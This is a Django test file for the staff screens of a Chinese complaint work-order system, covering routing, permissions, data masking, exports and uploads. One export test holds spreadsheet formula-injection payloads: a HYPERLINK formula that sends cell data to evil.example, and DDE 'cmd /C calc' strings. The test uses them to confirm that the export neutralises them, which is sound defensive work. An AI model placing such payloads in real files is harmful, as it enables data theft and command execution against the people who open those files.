"""The staff screens for work orders, through the test client."""

import re
from datetime import timedelta
from html import unescape

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext

from complaints import services, workflow
from complaints.models import Attachment, RoutingRule, WorkOrder, WorkOrderEvent
from departments.models import AuditEntry
from tests.helpers import asked_export, exported, same_page

PROPERTY_TEXT = "小区物业不作为，电梯坏了一个月没人修，业主多次反映无果"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00"
    b"\x00\x00IEND\xaeB`\x82"
)


def intake(user, **overrides):
    data = {
        "kind": "complaint",
        "channel": "phone",
        "content": PROPERTY_TEXT,
        "citizen_name": "王先生",
        "citizen_phone": "13812345678",
        "citizen_id_number": "120114198001011234",
    }
    data.update(overrides)
    return services.workorder_intake(acting_user=user, **data)


@pytest.fixture
def housing_order(office_staff):
    order = intake(office_staff)
    assert order.primary_unit.code == "housing"
    return order


def test_office_registers_an_order_and_it_goes_where_the_rules_say(client, office_staff):
    client.force_login(office_staff)
    response = client.post(
        "/orders/new/",
        {
            "kind": "complaint",
            "channel": "walk_in",
            "urgency": "normal",
            "content": PROPERTY_TEXT,
            "citizen_name": "李女士",
            "citizen_phone": "13900001111",
            "routing_choice": "auto",
        },
    )
    order = WorkOrder.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/orders/{order.number}/"
    assert order.primary_unit.code == "housing"
    assert order.status == "assigned"
    assert order.created_by == office_staff


def test_intake_with_empty_text_says_so_in_chinese_and_saves_nothing(client, office_staff):
    client.force_login(office_staff)
    response = client.post(
        "/orders/new/",
        {
            "kind": "complaint",
            "channel": "phone",
            "urgency": "normal",
            "content": "  ",
            "citizen_phone": "13900001111",
            "routing_choice": "auto",
        },
    )
    assert response.status_code == 400
    assert "不能为空" in response.content.decode()
    assert WorkOrder.objects.count() == 0
    assert WorkOrderEvent.objects.count() == 0


def test_intake_with_an_exe_renamed_jpg_is_refused_and_saves_nothing(
    client, office_staff, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(office_staff)
    fake = SimpleUploadedFile("photo.jpg", b"MZ\x90\x00" + b"\x00" * 200, "image/jpeg")
    response = client.post(
        "/orders/new/",
        {
            "kind": "complaint",
            "channel": "phone",
            "urgency": "normal",
            "content": PROPERTY_TEXT,
            "citizen_phone": "13900001111",
            "routing_choice": "auto",
            "attachments": [fake],
        },
    )
    assert response.status_code == 400
    assert "photo.jpg" in response.content.decode()
    assert WorkOrder.objects.count() == 0
    assert not list(tmp_path.rglob("*.jpg"))


def test_intake_can_override_the_suggestion_or_keep_the_order_in_triage(client, office_staff):
    client.force_login(office_staff)
    base = {
        "kind": "complaint",
        "channel": "phone",
        "urgency": "normal",
        "content": PROPERTY_TEXT,
        "citizen_phone": "13900001111",
    }
    client.post("/orders/new/", {**base, "routing_choice": "unit", "unit": "commerce"})
    client.post("/orders/new/", {**base, "routing_choice": "triage"})
    first, second = WorkOrder.objects.order_by("id")
    assert first.primary_unit.code == "commerce"
    assert first.routing["overridden_to"] == "commerce"
    assert second.status == "triage" and second.primary_unit is None


def test_choosing_a_unit_without_naming_one_is_an_error(client, office_staff):
    client.force_login(office_staff)
    response = client.post(
        "/orders/new/",
        {
            "kind": "complaint",
            "channel": "phone",
            "urgency": "normal",
            "content": PROPERTY_TEXT,
            "citizen_phone": "13900001111",
            "routing_choice": "unit",
            "unit": "no-such-unit",
        },
    )
    assert response.status_code == 400
    assert WorkOrder.objects.count() == 0


def test_the_live_routing_suggestion_names_the_unit_and_the_words(client, office_staff):
    client.force_login(office_staff)
    response = client.post("/orders/route-preview/", {"content": PROPERTY_TEXT})
    body = response.content.decode()
    assert response.status_code == 200
    assert 'data-code="housing"' in body
    assert "物业" in body
    response = client.post("/orders/route-preview/", {"content": "你们到底管不管"})
    assert 'data-code=""' in response.content.decode()


def test_the_live_routing_suggestion_names_the_rule_as_the_order_page_does(client, office_staff):
    """The suggestion showed the rule's key (housing-property-management) and a category
    as the router writes it (category:物业), words an official does not use; the order
    page shows the rule's name and 分类“物业”."""
    client.force_login(office_staff)
    body = client.post(
        "/orders/route-preview/", {"content": PROPERTY_TEXT, "category": "物业"}
    ).content.decode()
    assert 'data-code="housing"' in body
    assert "housing-property-management" not in body
    assert "category:" not in body
    assert "物业服务" in body
    assert "分类“物业”" in body
    # The same on the form sent back with an error.
    response = client.post(
        "/orders/new/",
        {"kind": "complaint", "channel": "phone", "content": PROPERTY_TEXT, "category": "物业"},
    )
    assert response.status_code == 400
    body = response.content.decode()
    assert "housing-property-management" not in body
    assert "物业服务" in body


@pytest.mark.parametrize("persona", ["mr_staff", "housing_staff", "leader"])
def test_only_the_office_can_open_the_intake_form(persona_client, persona):
    client = persona_client(persona)
    assert client.get("/orders/new/").status_code == 404
    assert client.post("/orders/route-preview/", {"content": "x"}).status_code == 404


def test_another_units_order_is_not_found_anywhere(client, mr_staff, housing_order):
    client.force_login(mr_staff)
    missing = client.get("/orders/WQ-2099-999999/")
    response = client.get(f"/orders/{housing_order.number}/")
    assert response.status_code == 404
    assert same_page(response.content, missing.content)
    assert client.post(f"/orders/{housing_order.number}/act/sign/").status_code == 404
    assert client.get(f"/orders/{housing_order.number}/attachments/1/").status_code == 404
    listing = client.get("/orders/?tab=all").content.decode()
    assert housing_order.number not in listing


def test_the_unit_signs_for_an_order_from_its_detail_page(client, housing_staff, housing_order):
    client.force_login(housing_staff)
    page = client.get(f"/orders/{housing_order.number}/").content.decode()
    assert 'id="action-sign"' in page
    response = client.post(
        f"/orders/{housing_order.number}/act/sign/", {"version": housing_order.version}
    )
    assert response.status_code == 302
    housing_order.refresh_from_db()
    assert housing_order.status == "in_progress"


def test_a_stale_form_is_refused_with_a_changed_meanwhile_message(
    client, housing_staff, office_staff, housing_order
):
    seen_version = housing_order.version
    workflow.workorder_supervise(
        order_id=housing_order.id, acting_user=office_staff, note="请尽快处理"
    )
    client.force_login(housing_staff)
    response = client.post(
        f"/orders/{housing_order.number}/act/sign/", {"version": seen_version}, follow=True
    )
    housing_order.refresh_from_db()
    assert housing_order.status == "assigned"
    page = response.content.decode()
    assert "期间，" in page and "修改了该工单（已督办）" in page


def test_a_transition_from_the_wrong_status_is_refused_with_a_message(
    client, office_staff, housing_order
):
    client.force_login(office_staff)
    response = client.post(
        f"/orders/{housing_order.number}/act/close/",
        {"version": housing_order.version},
        follow=True,
    )
    housing_order.refresh_from_db()
    assert housing_order.status == "assigned"
    assert "不能" in response.content.decode()


def test_an_unknown_action_is_not_found(client, office_staff, housing_order):
    client.force_login(office_staff)
    response = client.post(f"/orders/{housing_order.number}/act/explode/", {"version": 1})
    assert response.status_code == 404


def test_the_inbox_tabs_hold_the_units_orders(client, housing_staff, mr_staff, housing_order):
    client.force_login(housing_staff)
    to_sign = client.get("/orders/?tab=to_sign").content.decode()
    in_progress = client.get("/orders/?tab=in_progress").content.decode()
    assert housing_order.number in to_sign
    assert housing_order.number not in in_progress
    client.force_login(mr_staff)
    assert housing_order.number not in client.get("/orders/?tab=to_sign").content.decode()


def test_a_returned_order_stays_visible_to_the_unit_in_its_returned_tab(
    client, housing_staff, housing_order
):
    workflow.workorder_return(
        order_id=housing_order.id, acting_user=housing_staff, reason="不属于本单位职责"
    )
    client.force_login(housing_staff)
    assert housing_order.number in client.get("/orders/?tab=returned").content.decode()
    assert housing_order.number not in client.get("/orders/?tab=to_sign").content.decode()
    page = client.get(f"/orders/{housing_order.number}/").content.decode()
    assert 'id="action-sign"' not in page


def test_search_finds_an_order_by_phone_and_filters_narrow_by_kind(
    client, office_staff, housing_order
):
    inquiry = intake(
        office_staff,
        kind="inquiry",
        citizen_phone="13700000000",
        content="想问一下预付卡退款的规定",
    )
    client.force_login(office_staff)
    by_phone = client.get("/orders/?tab=all&q=13812345678").content.decode()
    assert housing_order.number in by_phone and inquiry.number not in by_phone
    by_kind = client.get("/orders/?tab=all&kind=inquiry").content.decode()
    assert inquiry.number in by_kind and housing_order.number not in by_kind


def test_bad_filter_values_give_the_list_not_an_error(client, office_staff, housing_order):
    client.force_login(office_staff)
    response = client.get("/orders/?tab=nonsense&per_page=9999&page=x")
    assert response.status_code == 200
    # A date that is not one is refused as a form's field is, not read as no date.
    response = client.get("/orders/?tab=nonsense&received_from=yesterday&per_page=9999&page=x")
    assert response.status_code == 400


def test_the_triage_queue_flags_an_order_returned_twice(
    client, office_staff, housing_staff, mr_staff, housing_order
):
    workflow.workorder_return(
        order_id=housing_order.id, acting_user=housing_staff, reason="非本单位"
    )
    workflow.workorder_dispatch(
        order_id=housing_order.id, acting_user=office_staff, unit_code="market-regulation"
    )
    workflow.workorder_return(order_id=housing_order.id, acting_user=mr_staff, reason="也不是我们")
    client.force_login(office_staff)
    queue = client.get("/orders/?tab=triage").content.decode()
    assert housing_order.number in queue
    assert 'data-returns="2"' in queue
    detail = client.get(f"/orders/{housing_order.number}/").content.decode()
    assert 'id="dispatch-force"' in detail


def test_the_primary_unit_sees_the_phone_and_the_viewing_is_recorded(
    client, housing_staff, housing_order
):
    client.force_login(housing_staff)
    page = client.get(f"/orders/{housing_order.number}/").content.decode()
    assert "13812345678" in page
    entry = AuditEntry.objects.get(action="workorder.view_personal_data")
    assert entry.actor == housing_staff
    assert housing_order.number in entry.data["orders"]


def test_a_co_handling_unit_sees_the_phone_masked_and_nothing_is_recorded(
    client, office_staff, mr_staff
):
    order = intake(office_staff, unit_code="housing", co_unit_codes=["market-regulation"])
    client.force_login(mr_staff)
    page = client.get(f"/orders/{order.number}/").content.decode()
    assert "138****5678" in page
    assert "13812345678" not in page
    assert "1201**********1234" in page
    assert not AuditEntry.objects.filter(action="workorder.view_personal_data").exists()


def test_the_list_shows_no_phone_number_at_all(client, office_staff, housing_order):
    client.force_login(office_staff)
    page = client.get("/orders/?tab=all").content.decode()
    assert "13812345678" not in page


def test_the_excel_export_masks_personal_data_the_user_may_not_see(client, office_staff, mr_staff):
    order = intake(office_staff, unit_code="housing", co_unit_codes=["market-regulation"])
    client.force_login(mr_staff)
    sheet = exported(client, "tab=all").active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][0] == order.number
    # The time received, a date-time the spreadsheet sorts, shown to the minute as on a page
    # (the default format showed the seconds).
    received = next(sheet.iter_rows(min_row=2, max_row=2))[4]
    assert received.is_date and received.number_format == "yyyy-mm-dd hh:mm"
    assert "138****5678" in rows[1]
    assert "13812345678" not in rows[1]
    client.force_login(office_staff)
    rows = list(exported(client, "tab=all").active.iter_rows(values_only=True))
    assert "13812345678" in rows[1]
    assert AuditEntry.objects.filter(
        action="workorder.view_personal_data", actor=office_staff, data__where="export"
    ).exists()


def test_the_export_follows_the_filters(client, office_staff, housing_order):
    intake(office_staff, kind="inquiry", content="想问一下预付卡退款的规定")
    client.force_login(office_staff)
    rows = list(exported(client, "tab=all&kind=complaint").active.iter_rows(values_only=True))
    assert [row[0] for row in rows[1:]] == [housing_order.number]


def test_an_export_with_a_filter_in_error_is_refused_rather_than_made_of_every_order(
    client, office_staff, housing_order
):
    intake(office_staff, kind="inquiry", content="想问一下预付卡退款的规定")
    client.force_login(office_staff)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    query = "tab=all&kind=complaint&received_from=0001-01-01"
    response, export = asked_export(client, query)
    assert export is None
    assert response.status_code == 302
    assert response["Location"] == f"/orders/?{query}"
    page = client.get(response["Location"]).content.decode()
    assert "Correct the filters and export again." in page


def test_an_export_longer_than_the_limit_is_refused_rather_than_cut_short(
    client, office_staff, housing_order, monkeypatch
):
    from complaints import order_exports

    intake(office_staff, kind="inquiry", content="想问一下预付卡退款的规定")
    monkeypatch.setattr(order_exports, "EXPORT_LIMIT", 1)
    client.force_login(office_staff)
    response, export = asked_export(client, "tab=all&kind=")
    assert response["Location"] == f"/orders/exports/{export.id}/"
    assert export.status == "failed" and not export.file
    page = client.get(response["Location"]).content.decode()
    assert "超过1件" in page
    rows = list(exported(client, "tab=all&kind=complaint").active.iter_rows(values_only=True))
    assert [row[0] for row in rows[1:]] == [housing_order.number]


def test_the_export_keeps_text_that_looks_like_a_formula_as_text(client, office_staff):
    title = '=HYPERLINK("http://evil.example/?"&O2,"点此查看")'
    business = "+1+cmd|' /C calc'!A0"
    content = "@SUM(1+1)*cmd|' /C calc'!A0 电梯坏了一个月"
    intake(office_staff, title=title, business_name=business, content=content, amount="12.50")
    client.force_login(office_staff)
    sheet = exported(client, "tab=all").active
    headers = [cell.value for cell in sheet[1]]
    row = {header: cell for header, cell in zip(headers, sheet[2], strict=True)}
    for header, text in (("标题", title), ("经营者", business), ("诉求内容", content)):
        assert row[header].value == text
        assert row[header].data_type == "s"
        assert row[header].quotePrefix
    assert row["涉及金额（元）"].value == 12.5
    assert row["涉及金额（元）"].data_type == "n"
    assert not row["编号"].quotePrefix


def test_a_unit_uploads_an_attachment_and_downloads_it(
    client, housing_staff, housing_order, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(housing_staff)
    upload = SimpleUploadedFile("现场照片.png", PNG, "image/png")
    client.post(f"/orders/{housing_order.number}/attachments/", {"attachments": [upload]})
    attachment = Attachment.objects.get()
    assert attachment.original_name == "现场照片.png"
    response = client.get(f"/orders/{housing_order.number}/attachments/{attachment.id}/")
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PNG


def test_a_very_long_file_name_is_shortened_but_keeps_its_extension(
    client, housing_staff, housing_order, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(housing_staff)
    name = "消费者提供的现场照片" * 25 + ".png"
    upload = SimpleUploadedFile(name, PNG, "image/png")
    client.post(f"/orders/{housing_order.number}/attachments/", {"attachments": [upload]})
    attachment = Attachment.objects.get()
    assert len(attachment.original_name) == 200
    assert attachment.original_name.startswith(
        "消费者提供的"
    ) and attachment.original_name.endswith(".png")
    response = client.get(f"/orders/{housing_order.number}/attachments/{attachment.id}/")
    assert response["Content-Disposition"].endswith(".png")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_an_exe_renamed_jpg_is_refused_on_upload(
    client, housing_staff, housing_order, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(housing_staff)
    fake = SimpleUploadedFile("photo.jpg", b"MZ\x90\x00" + b"\x00" * 500, "image/jpeg")
    response = client.post(
        f"/orders/{housing_order.number}/attachments/", {"attachments": [fake]}, follow=True
    )
    assert Attachment.objects.count() == 0
    assert "photo.jpg" in response.content.decode()


def test_the_overdue_board_counts_late_orders_by_unit(
    client, office_staff, housing_order, time_machine
):
    time_machine.move_to(housing_order.due_sign_for + timedelta(hours=1))
    client.force_login(office_staff)
    page = client.get("/orders/overdue/").content.decode()
    assert "?tab=overdue&amp;unit=housing" in page


def _board_links(page: str) -> list[tuple[str, str, str]]:
    """(row, text, address) of every link in the overdue board's body."""
    body = page.split('id="overdue-board"', 1)[1].split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    links = []
    for row in re.findall(r"<tr>(.*?)</tr>", body, re.S):
        name = re.sub(r"<[^>]+>", "", row.split("</td>", 1)[0]).strip()
        for href, text in re.findall(r'<a href="([^"]+)"[^>]*>(.*?)</a>', row, re.S):
            links.append((name, re.sub(r"<[^>]+>", "", text).strip(), unescape(href)))
    return links


def test_every_link_of_the_overdue_board_opens_the_orders_it_counts(
    client, office_staff, time_machine
):
    """A unit with orders due soon and none overdue opened an empty overdue list, and the
    triage row opened the whole triage queue, also the orders with time left."""
    late = intake(office_staff, send_to_triage=True)
    time_machine.move_to(late.due_decision + timedelta(days=3))
    intake(office_staff, send_to_triage=True)
    soon = intake(office_staff)
    assert soon.primary_unit.code == "housing"
    time_machine.move_to(soon.due_sign_for - timedelta(hours=1))
    client.force_login(office_staff)
    page = client.get("/orders/overdue/").content.decode()
    rows = {r["primary_unit__code"]: r for r in client.get("/orders/overdue/").context["rows"]}
    assert (rows["housing"]["overdue"], rows["housing"]["due_soon"]) == (0, 1)
    assert (rows[None]["overdue"], rows[None]["due_soon"]) == (1, 0)
    links = _board_links(page)
    for row, text, href in links:
        listed = client.get(href).context["page"].paginator.count
        assert listed == (int(text) if text.isdigit() else 1), (row, href)
    # The unit's name and each number but the zeros.
    assert len(links) == 4


@pytest.mark.parametrize("persona", ["mr_staff", "housing_staff"])
def test_units_cannot_open_the_overdue_board(persona_client, persona):
    assert persona_client(persona).get("/orders/overdue/").status_code == 404


def test_a_search_that_finds_nothing_in_its_tab_points_to_the_matches_in_all_orders(
    client, office_staff, housing_order
):
    """The office's order list opens on the triage queue: a citizen's phone number typed
    there found only orders waiting for dispatch and said "no order here", as if the
    citizen had none, while the order was with a unit."""
    client.force_login(office_staff)
    page = client.get("/orders/", {"q": "138 1234 5678"})
    assert page.context["tab"] == "triage"
    assert page.context["page"].paginator.count == 0
    body = unescape(page.content.decode())
    link = re.search(r'<a[^>]*id="search-all-orders"[^>]*href="([^"]+)"', body) or re.search(
        r'<a[^>]*href="([^"]+)"[^>]*id="search-all-orders"', body
    )
    assert link, body
    shown = client.get("/orders/" + link.group(1))
    assert shown.context["tab"] == "all"
    assert [o.number for o in shown.context["page"]] == [housing_order.number]
    hint = body.split('id="search-all-orders"', 1)[0].rsplit("<td", 1)[1]
    assert "1" in hint
    # Nothing anywhere: no link to an empty list.
    page = client.get("/orders/", {"q": "没有这样的内容"})
    assert 'id="search-all-orders"' not in page.content.decode()


def test_a_search_with_many_matches_stops_counting_at_the_limit(client, office_staff, monkeypatch):
    from complaints import views

    monkeypatch.setattr(views, "SEARCH_COUNT_LIMIT", 2)
    orders = [intake(office_staff) for _ in range(3)]
    client.force_login(office_staff)
    page = client.get("/orders/?tab=all&q=电梯").content.decode()
    assert all(order.number in page for order in orders)
    count = page.split('id="order-count">', 1)[1].split("</p>", 1)[0]
    assert "3" not in count
    monkeypatch.setattr(views, "SEARCH_COUNT_LIMIT", 5)
    page = client.get("/orders/?tab=all&q=电梯").content.decode()
    count = page.split('id="order-count">', 1)[1].split("</p>", 1)[0]
    assert "3" in count


def test_a_search_scans_the_orders_once_for_its_count_and_its_page(client, office_staff):
    """Counting the matches and then reading the page scanned every order's text twice: a
    rare word over 100,000 orders took two scans of ~70 ms each. The first thousand matches'
    ids give both, and the page's rows are read by id."""
    orders = [intake(office_staff) for _ in range(3)]
    client.force_login(office_staff)
    with CaptureQueriesContext(connection) as queries:
        page = client.get("/orders/?tab=all&q=电梯&per_page=25").content.decode()
    assert all(order.number in page for order in orders)
    assert re.search(r"\b3\b", page.split('id="order-count">', 1)[1].split("</p>", 1)[0])
    scans = [
        q["sql"]
        for q in queries.captured_queries
        if "%电梯%" in q["sql"] and '"complaints_workorder"."id" IN' not in q["sql"]
    ]
    assert len(scans) == 1, scans


def test_a_searchs_pages_list_its_matches_newest_first_each_once(client, office_staff):
    orders = [intake(office_staff) for _ in range(27)]
    intake(office_staff, title="别的事", content="完全无关的内容")
    client.force_login(office_staff)
    shown = []
    for number in (1, 2):
        page = client.get(f"/orders/?tab=all&q=电梯&per_page=25&page={number}").content.decode()
        shown += re.findall(r'href="/orders/(WQ-\d{4}-\d{6})/"', page)
    newest_first = [o.number for o in sorted(orders, key=lambda o: (o.received_at, o.id))][::-1]
    assert list(dict.fromkeys(shown)) == newest_first


def test_the_timeline_names_the_satisfaction_rating_in_chinese(
    client, office_staff, housing_staff, housing_order
):
    workflow.workorder_sign(order_id=housing_order.id, acting_user=housing_staff)
    workflow.workorder_resolve(order_id=housing_order.id, acting_user=housing_staff, result="已修")
    workflow.workorder_record_satisfaction(
        order_id=housing_order.id, acting_user=office_staff, rating="basically_satisfied"
    )
    client.force_login(office_staff)
    page = client.get(f"/orders/{housing_order.number}/").content.decode()
    timeline = page.split('id="timeline"', 1)[1].split("</ol>", 1)[0]
    assert "基本满意" in timeline
    assert "basically_satisfied" not in timeline


def test_the_history_names_the_co_handling_units_a_dispatch_asked_for(client, office_staff, leader):
    """The dispatch line read "已派单 → 区市场监管局" only: once the leader had made the
    co-handling Public Security Branch the primary unit, nothing on the page said it had
    been asked to co-handle, nor by whom and when."""
    order = intake(office_staff, send_to_triage=True)
    workflow.workorder_dispatch(
        order_id=order.id,
        acting_user=office_staff,
        unit_code="market-regulation",
        co_unit_codes=["public-security", "commerce"],
    )
    client.force_login(leader)
    page = client.get(f"/orders/{order.number}/").content.decode()
    timeline = page.split('id="timeline"', 1)[1].split("</ol>", 1)[0]
    line = timeline.split('data-action="dispatch"', 1)[1].split("</li>", 1)[0]
    assert "协办" in line
    assert "公安武清分局" in line and "区商务局" in line


def test_an_order_in_triage_says_why_the_rules_left_it_there_and_which_units_came_close(
    client, office_staff
):
    """A hotline order the rules could not place reached the triage queue with nothing on
    its page to say why, while the dispatch form already had one of the close units chosen,
    as if the system had suggested it."""
    order = intake(office_staff, content="老人在养生馆被诱导购买保健品，疑似诈骗")
    assert order.status == "triage"
    assert [c["unit"] for c in order.routing["candidates"]] == [
        "market-regulation",
        "public-security",
    ]
    client.force_login(office_staff)
    page = client.get(f"/orders/{order.number}/").content.decode()
    assert 'id="routing-rule"' in page
    line = page.split('id="routing-rule"', 1)[1].split("</div>", 1)[0]
    assert "有两个单位匹配程度相同" in line
    assert "区市场监管局" in line and "公安武清分局" in line
    assert "保健品" in line and "诈骗" in line


def test_a_deadline_no_longer_counting_says_whether_it_was_met_or_is_paused(
    client, housing_staff, housing_order
):
    def shown(name):
        page = client.get(f"/orders/{housing_order.number}/").content.decode()
        row = page.split(f'data-deadline="{name}"', 1)[1].split('data-deadline="', 1)[0]
        return row

    order = workflow.workorder_sign(order_id=housing_order.id, acting_user=housing_staff)
    workflow.workorder_accept(order_id=order.id, acting_user=housing_staff)
    WorkOrder.objects.filter(id=order.id).update(signed_at=order.due_sign_for + timedelta(hours=1))
    workflow.workorder_pause(order_id=order.id, acting_user=housing_staff, reason="等待检测")
    client.force_login(housing_staff)
    assert "超期完成" in shown("sign_for")
    assert "按期完成" in shown("decision")
    assert "计时暂停" in shown("resolution")


def test_the_routing_rule_is_named_for_people_with_each_word_once(
    client, office_staff, housing_staff
):
    order = intake(office_staff, category="物业")
    client.force_login(housing_staff)
    page = client.get(f"/orders/{order.number}/").content.decode()
    line = page.split('id="routing-rule">', 1)[1].split("</div>", 1)[0]
    assert "category:物业" in order.routing["matched"]
    assert "分类“物业”" in line
    rule = RoutingRule.objects.get(key=order.routing["rule"])
    assert rule.name in line and rule.key not in line
    matched = re.findall(r"[(（]([^()（）]*)[)）]", line)[-1]
    words = re.split(r"[:：]\s*", matched, maxsplit=1)[-1].split("、")
    assert "物业" in words[0]
    assert len(words) == len(set(words)) and not any("category:" in w for w in words)
    # sent by the office where the rules said: the line names the rule all the same
    client.cookies["django_language"] = "en"
    chosen_alike = intake(office_staff, category="物业", unit_code="housing")
    page = client.get(f"/orders/{chosen_alike.number}/").content.decode()
    line = page.split('id="routing-rule">', 1)[1].split("</div>", 1)[0]
    assert "as the rules suggested" in line and rule.name in line
    by_hand = intake(office_staff, unit_code="market-regulation")
    client.force_login(office_staff)
    page = client.get(f"/orders/{by_hand.number}/").content.decode()
    line = page.split('id="routing-rule">', 1)[1].split("</div>", 1)[0]
    assert "the office sent it to Market Regulation Bureau" in line


def test_a_received_date_in_a_year_the_portal_does_not_take_is_refused_with_a_message(
    client, office_staff, housing_order
):
    client.cookies["django_language"] = "en"
    client.force_login(office_staff)
    response = client.get("/orders/?tab=all&received_from=0001-01-01&received_to=9999-12-31")
    assert response.status_code == 400
    page = response.content.decode()
    assert "0001-01-01 is not a date the portal accepts" in page
    assert "9999-12-31 is not a date the portal accepts" in page


def test_the_page_size_links_replace_the_page_size_instead_of_adding_another(
    client, office_staff, housing_order
):
    client.force_login(office_staff)
    html = client.get("/orders/?tab=all&per_page=50&page=1").content.decode()
    links = re.findall(r'class="ms-1 page-size[^"]*" href="([^"]*)"', html)
    queries = [QueryDict(unescape(link).removeprefix("?")) for link in links]
    assert [query.getlist("per_page") for query in queries] == [["25"], ["50"], ["100"]]
    assert all(query.getlist("tab") == ["all"] and "page" not in query for query in queries)


def test_the_export_leaves_out_control_characters_a_workbook_cannot_hold(client, office_staff):
    """An order with a control character in its text (one stored before the API and the
    forms left them out) made every export of a list holding it a 500: openpyxl refuses the
    characters XML 1.0 cannot carry. Nobody reads them; the rest of the text is kept."""
    intake(office_staff, title="电梯\x01坏了", content="一个月\x1b没人修\t仍未修")
    client.force_login(office_staff)

    sheet = exported(client, "tab=all").active

    headers = [cell.value for cell in sheet[1]]
    row = dict(zip(headers, (cell.value for cell in sheet[2]), strict=True))
    assert row["标题"] == "电梯坏了"
    assert row["诉求内容"] == "一个月没人修\t仍未修"
